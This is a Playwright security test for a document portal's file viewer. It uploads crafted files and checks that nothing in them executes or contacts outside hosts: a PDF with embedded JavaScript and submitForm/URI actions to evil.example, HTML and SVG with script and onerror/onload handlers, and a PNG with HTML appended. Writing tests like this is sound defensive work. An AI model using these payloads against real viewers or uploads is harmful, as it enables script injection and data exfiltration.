import { trap } from '../support/hostile-values';
import { findHarm, watchForHarm } from '../support/hostile-walk';
import { follow } from '../support/navigation';
import { register } from '../support/people';
import { expect, test } from '../support/portal';

/** A PDF with every way to run a script or send data: on opening, by name, by a link, and by a form field. */
const pdf = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${trap}\\(\\);app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${trap}\\(\\))>>]>>>>/AcroForm<</Fields[6 0 R]>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Annots[5 0 R 6 0 R]/AA<</O<</S/URI/URI(https://evil.example/)>>>>>>endobj
4 0 obj<</Length 17>>stream
0 0 100 100 re f
endstream endobj
5 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:${trap}\\(\\))>>>>endobj
6 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[0 0 200 200]/AA<</E<</S/JavaScript/JS(${trap}\\(\\))>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
const html = `<!doctype html><script>${trap}()</script><img src=x onerror=${trap}()><meta http-equiv=refresh content="0;url=https://evil.example/">`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${trap}()"><script>${trap}()</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${trap}()"/></foreignObject></svg>`;
/** Header of a picture of 640 × 480 pixels. */
const pngHeader = Buffer.from('89504e470d0a1a0a0000000d4948445200000280000001e00802000000', 'hex');

const files: readonly [name: string, mimeType: string, bytes: Buffer, isRendered: boolean][] = [
  ['page.html', 'text/html', Buffer.from(html), false],
  ['drawing.svg', 'image/svg+xml', Buffer.from(svg), false],
  ['page-called.pdf', 'application/pdf', Buffer.from(`${html} `), false],
  ['picture-and-page.png', 'image/png', Buffer.concat([pngHeader, Buffer.from(html)]), false],
  ['scripts.pdf', 'application/pdf', Buffer.from(pdf), true],
];

test('shows hostile files as pictures or not at all, and nothing in them runs', async ({ page }) => {
  const ran = await watchForHarm(page);
  await register(page);
  await follow(page, 'Documents', 'Document Management');
  const origin = new URL(page.url()).origin;
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin: to } = new URL(request.url());
    if (/^https?:$/.test(protocol) && to !== origin) elsewhere.push(request.url());
  });
  page.on('dialog', (dialog) => elsewhere.push(`dialog ${dialog.message()}`));
  page.on('popup', (popup) => elsewhere.push(`popup ${popup.url()}`));

  const w2 = page.getByRole('region', { name: 'W-2', exact: true });
  await w2
    .locator('input[type=file]:not([capture])')
    .setInputFiles(files.map(([name, mimeType, buffer]) => ({ name, mimeType, buffer })));
  await expect(page.getByText(`${files.length} file(s) uploaded successfully!`)).toBeVisible();

  for (const [name, , , isRendered] of files)
    await test.step(name, async () => {
      await page
        .getByRole('button', { name: `View ${name}` })
        .first()
        .click();
      const viewer = page.getByRole('dialog');
      if (isRendered) {
        await expect(viewer.locator('canvas[data-drawn]')).toBeVisible();
        // A click on the page must not follow its link, or focus its field.
        await viewer.locator('canvas[data-drawn]').click({ position: { x: 20, y: 20 } });
      } else {
        await expect(viewer).toContainText(
          /This file type cannot be previewed in the browser\.|Error loading document/,
        );
        await expect(viewer.locator('iframe, object, embed, canvas[data-drawn]')).toHaveCount(0);
      }
      expect(await findHarm(page)).toEqual([]);
      await page.keyboard.press('Escape');
      await expect(viewer).toHaveCount(0);
    });
  expect(elsewhere).toEqual([]);
  // The only call is this one, which also proves that calls are recorded.
  await page.evaluate(`${trap}()`);
  expect(ran()).toEqual([page.url()]);
});
